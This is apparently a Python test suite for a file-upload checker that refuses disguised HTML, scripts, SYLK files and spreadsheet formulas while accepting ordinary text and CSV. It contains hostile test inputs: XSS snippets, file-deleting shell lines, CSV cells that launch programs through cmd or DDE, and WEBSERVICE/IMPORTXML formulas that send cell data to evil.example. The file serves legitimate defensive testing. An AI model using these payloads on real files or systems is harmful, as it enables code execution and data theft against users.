"""What is a text, and what only looks like one: attachments/formats/texts.py."""

import codecs
import time

import pytest

from services.transcripts.attachments.judging import judge
from services.transcripts.attachments.kinds import CSV, TEXT, Refused
from services.transcripts.attachments.names import safe_name


@pytest.mark.parametrize(
    ("content", "name"),
    [
        ("<!DOCTYPE html><title>x</title>", "x.html"),
        ("<!doctype HTML>", "x.txt"),
        ("\ufeff \n<html lang='nl'><body>x</body></html>", "brief.csv"),
        ("<!-- eerst --><HTML>", "x.txt"),
        ("<script>alert(1)</script>", "x.log"),
        ("<script>alert(1)</script>", "x.md"),
        ("<h1>Dag</h1><script>x</script>", "x.txt"),
        ("<div><p>Dag</p></div>", "x.txt"),
        ("<img src=x onerror=alert(1)>", "foto.txt"),
        ("Dag <b>An</b> <script>x</script>", "x.html"),
        ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "x.xml"),
        ('<svg xmlns="http://www.w3.org/2000/svg"/>', "x.svg"),
        ('<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "x" "y">\n<html/>', "x.txt"),
        ('<a><s:script xmlns:s="http://www.w3.org/1999/xhtml">x</s:script></a>', "x.xml"),
        ('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>', "x.xml"),
        ('<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>', "x.xml"),
        ("{\\rtf1\\ansi Dag}", "brief.txt"),
        ("%!PS-Adobe-3.0\n", "x.txt"),
        ("#!/bin/sh\nrm -r x\n", "lees.txt"),
        ("@echo off\r\ndel x\r\n", "lees.txt"),
        ("<?php echo 1;", "x.txt"),
        ("[InternetShortcut]\r\nURL=https://x\r\n", "x.txt"),
        ("Windows Registry Editor Version 5.00\r\n", "x.txt"),
        ("Start-Process calc\r\n", "x.ps1"),
        ("alert(1)\n", "x.js"),
        ("dag\r\n", "x.bat"),
        ('Set s = CreateObject("WScript.Shell")\r\ns.Run("calc")\r\n', "x.txt"),
        ("<html><hta:application/></html>", "x.hta"),
        ("{\\rt Dag}", "brief.txt"),
        ('<job id="x"><script language="VBScript">x</script></job>', "x.txt"),
        ('<?xml version="1.0"?><scriptlet><registration/><script>x</script></scriptlet>', "x.csv"),
        (
            "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\tboundary=x\r\n",
            "x.txt",
        ),
        ('MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\n', "brief.doc"),
        ('ID;PWXL;N;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;EEXEC("calc")\r\nE\r\n', "lijst.csv"),
    ],
)
def test_pages_and_scripts_are_refused_under_any_name(content: str, name: str) -> None:
    for encoded in (content.encode(), codecs.BOM_UTF16_LE + content.encode("utf-16-le")):
        with pytest.raises(Refused) as refused:
            judge(encoded, name)
        assert refused.value.reason.value == "not_allowed"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        ("Zet <script> in de <head> van de pagina.\n", "vraag.txt"),
        ("naam;opmerking\nAn;<b>dringend</b>\n", "lijst.csv"),
        ("<An Peeters> schreef:\n> dag\n", "mail.txt"),
        ("<- kijk hier\n", "x.txt"),
        ("<b>Let op</b>: morgen gesloten\n", "x.txt"),
        ('<h1 align="center">Project</h1>\n\nTekst <b>vet</b>\n', "lees.md"),
        ("From: an@example.be\nContent-Type: text/html\n\n<html><body>Dag</body></html>\n", "mail.eml"),
        ('<?xml version="1.0" encoding="UTF-8"?>\n<Invoice><form>x</form></Invoice>', "factuur.xml"),
        ('<feed xmlns="http://www.w3.org/2005/Atom"><div xmlns="http://www.w3.org/1999/xhtml">x</div></feed>', "x.xml"),
        ("<gpx><trk/></gpx>", "tocht.gpx"),
        ('{"a": "<html>"}', "x.json"),
        ("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "afspraak.ics"),
        ("2026-11-28 ERROR <html> not found\n", "uitvoer.log"),
        ("MZ-2024 is het dossiernummer\n", "x.txt"),
        ("ID;Plaats\n1;Gent\n", "lijst.csv"),
        ("ID;Plaats;O\nC;Gent;1\nO2;Aalst;F\n", "lijst.csv"),
        ("To: an@example.be\nContent-Type: multipart/related; boundary=x\n\n--x\n", "mail.txt"),
        ("a\tb\x0bc\x0c\n", "x.tsv"),
        ("echo van gisteren\n", "x.txt"),
    ],
)
def test_a_text_that_has_some_tags_stays_a_text(content: str, name: str) -> None:
    for encoding in ("utf-8", "utf-8-sig", "utf-16"):
        kind = judge(content.encode(encoding), name).kind
        assert kind == (CSV if name.endswith(".csv") else TEXT)
        assert safe_name(name, kind) == name


@pytest.mark.parametrize(
    "content",
    [
        b"<!doctype" + b" " * 65_000,
        b"<!doctype a [" + b"] " * 32_000,
        b'<?xml version="1.0"?><?' + b"a" * 65_000,
        b'<?xml version="1.0"?>' + b"<!---->" * 9_000,
        b"<div>onload" + b" " * 2_000_000,
        b"<div></a" + b" " * 2_000_000,
    ],
)
def test_what_takes_an_expression_long_does_not(content: bytes) -> None:
    """Each of these took more than 15 s where the time grew with the square of the length."""
    begun = time.process_time()
    judge(content, "x.xml")
    assert time.process_time() - begun < 5


def test_a_table_that_starts_a_program() -> None:
    for cell in ("=cmd|'/c calc'!A1", "@SUM(1+9)*cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!D2", "\"=cmd|'/c calc'!A1\""):
        for content in (f"naam;x\r\nAn;{cell}\r\n", f"é{' ' * 300_000}\r\n{cell}\r\n"):
            for encoding in ("utf-8", "utf-16", "latin-1"):
                with pytest.raises(Refused) as refused:
                    judge(content.encode(encoding), "lijst.csv")
                assert refused.value.reason.value == "active_content"
        assert judge(content.encode(), "lijst.csv", frozenset()).kind == CSV
        assert judge(content.encode(), "vraag.txt").kind == TEXT
    for content in ("a|b!;-5;=SUM(A1:A3)\n+32 9 123;x | y!\n", "- eerst; a|b!\n", '=HYPERLINK("https://x.be")\n'):
        assert judge(content.encode(), "lijst.csv").kind == CSV


def test_a_table_that_asks_another_server() -> None:
    for cell in (
        '=WEBSERVICE("https://evil.example/?"&A1)',
        '"=1+WebService (""https://evil.example/""&B2)"',
        '@IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
        '-SERVICEWEB("https://evil.example/")',
        '+DDE("soffice";"/etc/passwd";"A1")',
        f'=A1&"{"x" * 2_000}"&WEBSERVICE("https://evil.example/")',
    ):
        for content in (
            f"naam;x\r\nAn;{cell}\r\n",
            f"{cell}\n",
            f"é{' ' * 300_000}\r\n{cell}\r\n",
            "DDE(" * 1_500 + "\r\n" + "DDE(x)\n" * 1_500 + f"{cell}\r\n",
        ):
            for encoding in ("utf-8", "utf-16", "latin-1"):
                with pytest.raises(Refused) as refused:
                    judge(content.encode(encoding), "lijst.csv")
                assert refused.value.reason.value == "active_content", cell
        assert judge(cell.encode(), "lijst.csv", frozenset()).kind == CSV
        assert judge(cell.encode(), "vraag.txt").kind == TEXT
    for content in ("naam;WEBSERVICE (dienst)\n", "=SUM(A1)\nIMPORTDATA(x)\n", "onze webservice(s);-5\n"):
        assert judge(content.encode(), "lijst.csv").kind == CSV


def test_encodings() -> None:
    for content in (
        codecs.BOM_UTF16_BE + "a;é\r\n".encode("utf-16-be"),
        "één\n".encode("utf-32"),
        "prijs: 5 €\n".encode("cp1252"),
        "Ã©\x92\n".encode(),
        "こんにちは\n".encode("shift-jis"),
        b"oud\r\n\x1a",
    ):
        assert judge(content, "x.csv").kind == CSV
    for content in (b"\xff\xfea\0\0\0", b"\xff\xfe\x00\xd8a\0", b"\xff\xfb\x90\x64" + bytes(50), b"a\x1ab"):
        with pytest.raises(Refused):
            judge(content, "x.csv")
